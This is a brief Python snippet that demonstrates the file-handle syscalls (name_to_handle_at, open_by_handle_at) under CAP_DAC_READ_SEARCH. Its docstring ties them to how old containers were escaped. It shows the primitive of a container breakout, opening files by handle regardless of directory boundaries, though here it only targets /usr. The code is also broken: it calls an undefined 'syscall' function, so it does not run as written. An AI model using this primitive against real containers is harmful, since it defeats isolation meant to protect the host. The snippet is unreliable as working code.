"""Opens files by handle, past all directories (how old containers were left)."""

# control: CAP_DAC_READ_SEARCH
import ctypes
import os

handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(140))
mount_id = ctypes.c_int()
syscall(303, -100, b"/usr", handle, ctypes.byref(mount_id), 0)  # name_to_handle_at
answer = syscall(304, os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY)  # open_by_handle_at
